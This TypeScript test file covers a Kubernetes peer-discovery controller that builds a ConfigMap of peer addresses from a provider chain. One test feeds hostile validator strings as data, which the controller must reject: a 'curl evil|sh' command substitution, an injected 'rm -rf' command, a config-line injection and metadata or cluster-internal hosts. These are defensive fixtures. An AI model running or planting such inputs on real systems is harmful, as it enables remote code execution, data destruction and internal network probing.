// From a provider chain to a ConfigMap: discovery as a whole, at a stand-in for the chain and one for the API server.
// What the chain does badly.
import { KubeConfig, type KubernetesObject } from '@kubernetes/client-node'
import t, { type Test } from 'tap'
import { startApiServer } from '../../demo/api-server.ts'
import { startDiscovery } from '../../discovery/discovery.ts'
import type { PeerSetStatus } from '../../discovery/peer-set.ts'
import { createProviders, providerDefaults } from '../../discovery/sources/validators/provider.ts'
import { validatorsDefaults, validatorsSource } from '../../discovery/sources/validators/source.ts'
import { memoryLog } from '../fixtures/log-lines.ts'
import { until } from '../fixtures/until.ts'
import { object } from './fixtures/specs.ts'
import { fakeProvider, operatorOf } from './sources/validators/fixtures/provider.ts'

const id = (digit: number) => String(digit).repeat(40)
const names = ['alice', 'bob', 'charlie', 'dora']
const port = 28_766
const chain = () => ({
  validators: names.map((moniker, index) => ({
    moniker,
    details: `We validate.\np2p=${id(index)}@${moniker}.example.org`,
  })),
  consumers: [{ consumerId: '0', chainId: 'consumer-0-1751686503-0', optedIn: names }],
})
const entry = (index: number, host = `${names[index]}.example.org`) => `${id(index)}@${host}:${port}`
const whole = [1, 2, 3].map(index => entry(index)).join(',')
type ConfigMap = KubernetesObject & { data: Record<string, string> }

async function start(t: Test) {
  const lists: string[] = []
  const requests: string[] = []
  const api = await startApiServer({ onRequest: (method, url) => requests.push(`${method} ${url}`) })
  let provider = await fakeProvider(chain())
  const providerPort = Number(new URL(provider.url).port)
  await api.put({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'a' } })
  const validators = { endpoints: [provider.url], chainId: 'provider', operator: operatorOf('alice'), consumer: '0' }
  const output = { configMap: 'peers', key: 'list', format: 'cometbft-list' }
  await api.put(object('set', { source: { validators }, output, interval: '5s' }) as KubernetesObject)
  const config = new KubeConfig()
  config.loadFromString(api.kubeconfig)
  const retry = { minRetryMs: 10, maxRetryMs: 40, random: () => 0 }
  const times = {
    rpc: { ...providerDefaults.rpc, timeoutMs: 1000 },
    retry,
    events: { ...providerDefaults.events, ...retry },
    maxAgeMs: 50,
  }
  let providers: ReturnType<typeof createProviders> | undefined
  const discovery = startDiscovery(config, {
    log: memoryLog(),
    events: { tell: () => undefined },
    allowed: () => true,
    createSource: (spec, parts) => {
      if (spec.kind !== 'validators') throw new Error(spec.kind)
      providers ??= createProviders(parts, times)
      const changes = { burst: 1000, refillMs: 1 }
      return validatorsSource(spec.validators, parts, providers, {
        ...validatorsDefaults,
        probe: async () => undefined,
        changes,
      })
    },
    coalesceMs: 100,
    times: { minRetrySeconds: 0.01, maxRetrySeconds: 0.05, random: () => 0.5 },
  })
  t.teardown(async () => {
    await discovery.close()
    await provider.close()
    await api.close()
  })
  const list = async () => {
    const text = (await api.get<ConfigMap>('ConfigMap', 'peers', 'a'))?.data.list
    if (text !== undefined && text !== lists.at(-1)) lists.push(text)
    return text
  }
  const status = async () =>
    (await api.get<KubernetesObject & { status?: PeerSetStatus }>('PeerSet', 'set', 'a'))?.status
  await until('the list', async () => (await list()) === whole)
  await until('events', () => provider.sockets() === 1)
  await until('the status', async () => (await status())?.conditions?.[0]?.status === 'True')
  return {
    provider: () => provider,
    list,
    /** Every list that was seen. */
    lists,
    status,
    health: async () => (await status())?.conditions?.find(({ type }) => type === 'SourceHealthy'),
    writes: () => requests.filter(url => /^PATCH .*configmaps/.test(url)).length,
    say: (index: number, details: string) => Object.assign(provider.state.validators[index] ?? {}, { details }),
    restart: async () => {
      provider = await fakeProvider({ ...chain(), ...provider.state }, providerPort)
    },
  }
}

t.test('events that come together are one write', async t => {
  const given = await start(t)
  const before = given.writes()
  given.say(1, `p2p=${id(1)}@moved.example.org`)
  given.provider().emit()
  given.say(2, `p2p=${id(2)}@also.example.org`)
  given.provider().emit()
  await until(
    'both',
    async () =>
      (await given.list()) === [entry(1, 'moved.example.org'), entry(2, 'also.example.org'), entry(3)].join(','),
  )
  await new Promise(resolve => setTimeout(resolve, 300))
  t.equal(given.writes(), before + 1)
})

t.test('whatever a validator publishes, nothing of it gets into the list unvalidated, and the others stay', async t => {
  const given = await start(t)
  const rows: readonly [details: string, code: string][] = [
    ['p2p=$(curl evil|sh)', 'malformed'],
    ['p2p=`id`;rm$IFS-rf$IFS/', 'malformed'],
    [`p2p=${id(1)}@a.com"\npersistent_peers="${id(9)}@evil.example.org:1`, 'malformed'],
    [`p2p=${id(1)}@a.com,${id(9)}@evil.example.org`, 'malformed'],
    [`p2p=${'x'.repeat(1_000_000)}`, 'too-long'],
    ['p2p=10.0.0.7', 'private-host'],
    [`p2p=${id(1)}@169.254.169.254`, 'private-host'],
    [`p2p=${id(1)}@kubernetes.default.svc`, 'private-host'],
    [`p2p=${id(2)}@elsewhere.example.org`, 'id-claimed'],
  ]
  const others = [entry(2), entry(3)].join(',')
  for (const [details, code] of rows) {
    given.say(1, details)
    given.provider().emit()
    await until(`${details.slice(0, 40)}: ${code}`, async () =>
      (await given.status())?.problems?.some(problem => problem.code === code),
    )
    t.equal(await given.list(), others, details.slice(0, 40))
    const text = JSON.stringify(await given.status())
    t.ok(text.length < 5000, 'the status stays short')
  }
  given.say(1, `p2p=${id(1)}@charlie.example.org`)
  given.provider().emit()
  await until("someone else's host", async () =>
    (await given.status())?.problems?.some(({ code }) => code === 'shared-host'),
  )
  t.equal(
    await given.list(),
    [entry(1, 'charlie.example.org'), entry(2), entry(3)].join(','),
    'only the right ID can connect there',
  )
  for (const list of given.lists) t.match(list, /^([0-9a-f]{40}@[a-z.]+\.example\.org:28766,?)+$/)
})

t.test('a chain that is down, answers rubbish and comes back: the list stays, and goes on', async t => {
  const given = await start(t)
  const before = given.writes()
  const failing = async () => (await given.health())?.status === 'False'
  const well = async () => (await given.health())?.status === 'True'

  const rubbish = [
    '<html><h1>502 Bad Gateway</h1>',
    '{"jsonrpc":"2.0","id":1,"resu',
    'x'.repeat(20_000_000),
    '',
    '{"result":{"response":{"value":"AAAA"}}}',
  ]
  for (const text of rubbish) {
    given.provider().answer.http = () => text
    given.provider().emit()
    await until(`"${text.slice(0, 30)}" is noticed`, failing)
    t.equal(await given.list(), whole)
    given.provider().answer = {}
    given.provider().emit()
    await until('it is well again', async () => {
      given.provider().emit()
      return well()
    })
  }

  await given.provider().close()
  await until('it is noticed that it is down', failing, 60)
  t.match(await given.health(), { reason: 'SourceFailing', message: /no endpoint of the provider chain can be used/ })
  t.equal(await given.list(), whole)
  t.equal(given.writes(), before, 'nothing was written for any of this')
  await given.restart()
  given.say(1, `p2p=${id(1)}@moved.example.org`)
  await until('the new event connection begins with a look', async () =>
    (await given.list())?.includes('moved.example.org'),
  )
  await until('it is well again', well)
  t.same(given.lists.length, 2, 'no list in between')
})
